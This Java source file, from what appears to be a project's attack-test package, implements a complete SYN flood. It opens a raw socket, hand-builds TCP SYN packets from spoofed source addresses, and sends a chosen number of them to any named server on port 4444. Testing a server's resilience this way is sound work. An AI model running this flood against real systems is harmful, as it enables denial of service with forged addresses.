package nearfar.tests.attacks;

import java.lang.foreign.Arena;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import java.lang.invoke.MethodHandle;
import java.net.InetAddress;
import java.nio.ByteBuffer;

/**
 * A program for a container that may write raw packets: sends SYN packets to the server from
 * addresses that do not exist, which never answer the SYN-ACK. Prints the number of packets sent.
 */
final class SynFlood {
  private static final int AF_INET = 2;
  private static final int SOCK_RAW = 3;
  private static final int IPPROTO_RAW = 255;
  private static final byte TCP = 6;
  private static final byte SYN = 2;
  private static final int PORT = 4444;
  private static final int IP_HEADER = 20;
  private static final int TCP_HEADER = 20;
  private static final int FIRST_STRANGER = 40;
  private static final int STRANGERS = 20;

  private SynFlood() {}

  /**
   * Sends the packets.
   *
   * @param arguments the server's name, and the number of packets
   */
  @SuppressWarnings("restricted") // there is no other way to a raw socket
  public static void main(String[] arguments) throws Throwable {
    byte[] server = InetAddress.getByName(arguments[0]).getAddress();
    int count = Integer.parseInt(arguments[1]);
    Linker linker = Linker.nativeLinker();
    MethodHandle socket =
        linker.downcallHandle(
            linker.defaultLookup().findOrThrow("socket"),
            FunctionDescriptor.of(
                ValueLayout.JAVA_INT,
                ValueLayout.JAVA_INT,
                ValueLayout.JAVA_INT,
                ValueLayout.JAVA_INT));
    MethodHandle sendto =
        linker.downcallHandle(
            linker.defaultLookup().findOrThrow("sendto"),
            FunctionDescriptor.of(
                ValueLayout.JAVA_LONG,
                ValueLayout.JAVA_INT,
                ValueLayout.ADDRESS,
                ValueLayout.JAVA_LONG,
                ValueLayout.JAVA_INT,
                ValueLayout.ADDRESS,
                ValueLayout.JAVA_INT));
    int raw = (int) socket.invokeExact(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (raw < 0) {
      System.out.println("no raw socket");
      return;
    }
    int sent = 0;
    try (Arena arena = Arena.ofConfined()) {
      MemorySegment packet = arena.allocate(IP_HEADER + TCP_HEADER);
      MemorySegment address = arena.allocate(16);
      address.set(ValueLayout.JAVA_SHORT, 0, (short) AF_INET);
      MemorySegment.copy(server, 0, address, ValueLayout.JAVA_BYTE, 4, 4);
      for (int i = 0; i < count; i++) {
        byte[] stranger = server.clone();
        stranger[3] = (byte) ((server[3] & 0xc0) + FIRST_STRANGER + i % STRANGERS);
        byte[] bytes = firstPacket(stranger, server, 1024 + i / STRANGERS % 60_000, i);
        MemorySegment.copy(bytes, 0, packet, ValueLayout.JAVA_BYTE, 0, bytes.length);
        long done = (long) sendto.invokeExact(raw, packet, (long) bytes.length, 0, address, 16);
        sent += done == bytes.length ? 1 : 0;
      }
    }
    System.out.println("sent " + sent + " first packets");
  }

  /** The kernel fills in the checksum of the IP header, but not TCP's. */
  private static byte[] firstPacket(byte[] from, byte[] to, int port, int sequence) {
    ByteBuffer packet = ByteBuffer.allocate(IP_HEADER + TCP_HEADER);
    packet.put((byte) 0x45).put((byte) 0).putShort((short) packet.capacity());
    packet.putInt(0).put((byte) 64).put(TCP).putShort((short) 0).put(from).put(to);
    packet.putShort((short) port).putShort((short) PORT).putInt(sequence).putInt(0);
    packet.put((byte) 0x50).put(SYN).putShort((short) 64_240).putInt(0);
    int sum = TCP + TCP_HEADER;
    for (int at = 12; at < packet.capacity(); at += 2) {
      sum += packet.getShort(at) & 0xffff;
    }
    sum = (sum & 0xffff) + (sum >>> 16);
    sum = (sum & 0xffff) + (sum >>> 16);
    packet.putShort(IP_HEADER + 16, (short) ~sum);
    return packet.array();
  }
}
